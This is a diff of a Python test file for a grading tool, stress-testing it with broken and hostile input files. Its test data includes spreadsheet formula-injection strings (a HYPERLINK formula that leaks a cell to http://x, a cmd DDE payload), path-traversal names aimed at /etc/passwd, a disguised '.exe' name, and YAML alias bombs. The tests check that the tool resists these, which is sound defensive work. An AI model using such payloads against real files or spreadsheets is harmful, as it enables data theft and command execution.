@@ -396,17 +396,58 @@ def test_names_that_windows_keeps_for_itself():
     assert [file_stem(name) for name in ("con", "LPT1", "..", "s-0417", "a/b")] == ["_con", "_LPT1", "_", "s-0417", "a_b"]
 
 
-def test_a_large_folder_of_which_much_is_broken(problem, tmp_path):
-    scripts = tmp_path / "many"
+NAMES = ("s-{}", "a/b-{}", "..%2f..%2Fetc%2Fpasswd-{}", "..\\\\..\\\\x-{}", '=HYPERLINK("http://x/?"&A1;"y")-{}', "+1-{}", "@SUM(A1:A9)-{}",
+         "-2+3+cmd|' /C calc'!A0-{}", "Zoë 王-{}", "\u202egnp.exe-{}", "con-{}", "x" * 300 + "-{}", "%0a=1+1-{}", "\ttab-{}")  # fmt: skip
+BAD_FILES = {
+    ".yaml": [raw for name, (raw, _) in HOSTILE.items() if name != "digits.yaml"] + [b"answers: {S: [" + b"1" * 1_000_000 + b"]}", b"&a [*a, *a]",
+        b"a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nanswers: {S: [*c,*c]}\n", b"{" * 3_000],
+    ".pdf": [b"%PDF-1.7\n%\xe2\xe3\0"], ".zip": [b"PK\3\4\0\0"], ".md": [b"I did not answer.\n", "S =\n".encode("utf-16")],
+    ".csv": [b"student,S[0,0]\n", b"\"", b"step,value\n", b"," * 400_000],
+}  # fmt: skip
+
+
+def test_a_thousand_scripts_of_which_many_are_broken(problem, tmp_path):
+    """Every good one is graded whatever its student is called, every bad one listed with its reason, and the table is safe to open."""
+    scripts = tmp_path / "scripts"
     scripts.mkdir()
-    kinds = [script("s", RIGHT_ANSWERS).encode(), *(raw for raw, _ in HOSTILE.values() if len(raw) < 10_000)]
-    for k in range(140):
-        (scripts / f"{k:03}.yaml").write_bytes(kinds[k % len(kinds)].replace(b"student: \"s\"", f'student: "s-{k}"'.encode()))
-    code, out, err = grade(problem, scripts, "--jobs", 2)
-    rows = table(out)
-    assert code == 1 and len(rows) == 140 and "Traceback" not in err and len(err.splitlines()) < 30
-    assert [row["marks"] for row in rows] == ["7" if k % len(kinds) == 0 else "" for k in range(140)]
-    assert all(row["remarks"].startswith("not graded: ") for row in rows if not row["marks"])
+    bad = [(ending, raw) for ending, found in BAD_FILES.items() for raw in found]
+    kinds = (RIGHT_ANSWERS, UNSCALED, {"S": RIGHT_ANSWERS["S"]})
+    marks, good = ("7", "4", "2"), {}
+    for k in range(1_000):
+        if k % 5:
+            path = scripts / f"{k:04}.yaml"
+            path.write_text(script(NAMES[k % len(NAMES)].format(k), kinds[k % 3]), encoding="utf-8")
+            good[str(path)] = marks[k % 3]
+        else:
+            ending, raw = bad[k // 5 % len(bad)]
+            (scripts / f"{k:04}{ending}").write_bytes(raw)
+    with open(os.path.join(os.fsencode(scripts), b"odd-\xff\n=1+1.yaml"), "wb") as file:
+        file.write(script(None, RIGHT_ANSWERS).encode())
+    os.mkfifo(scripts / "pipe.yaml")
+    os.symlink("loop.yaml", scripts / "loop.yaml")
+    (scripts / "folder.yaml").mkdir()
+    code, _, err = grade(problem, scripts, "-o", tmp_path / "m.csv", "--feedback", tmp_path / "fb", "--report", tmp_path / "r.html")
+    text = (tmp_path / "m.csv").read_text(encoding="utf-8")
+    rows = table(text)
+    assert code == 1 and "Traceback" not in err and len(rows) == 1_003 and "202 of 1003 scripts could not be graded" in err
+    assert len(err.splitlines()) < 30  # the first of many
+    assert {row["file"]: row["marks"] for row in rows if row["file"] in good} == good
+    refused = [row for row in rows if row["file"] not in good and not os.path.basename(row["file"]).startswith("odd-")]
+    assert len(refused) == 202 and {row["status"] for row in refused} == {"not graded"} and not any(row["marks"] for row in refused)
+    assert all(len(row["remarks"].removeprefix("not graded: ")) > 20 for row in refused)
+    for cell in (cell for line in csv.reader(io.StringIO(text)) for cell in line):
+        assert not cell.startswith(tuple("=+-@\t\r")) or cell.lstrip("+-").replace(".", "").isdigit()
+    written = os.listdir(tmp_path / "fb")
+    assert len(written) == 1_003 and os.listdir(tmp_path) and sorted(os.listdir(tmp_path)) == ["fb", "m.csv", "one-head.yaml", "r.html", "scripts"]
+    assert not any(set(name) & set("/\\\\:*?\"<>|\n") or name.startswith(".") or len(name.encode()) > 255 for name in written)
+
+
+def test_a_table_of_a_million_rows(problem, tmp_path):
+    (tmp_path / "class.csv").write_text('student,"S[0,0]"\n' + "s,1\n" * 1_000_000)
+    code, out, err = grade(problem, tmp_path / "class.csv")
+    (row,) = table(out)
+    assert code == 1 and "a file of at most 1,000,000 bytes is required; this one is larger" in row["remarks"] and row["status"] == "not graded"
+    assert err.splitlines()[-1] == "1 of 1 script could not be graded"
 
 
 # -- overrides --------------------------------------------------------------------------------------------------------------------
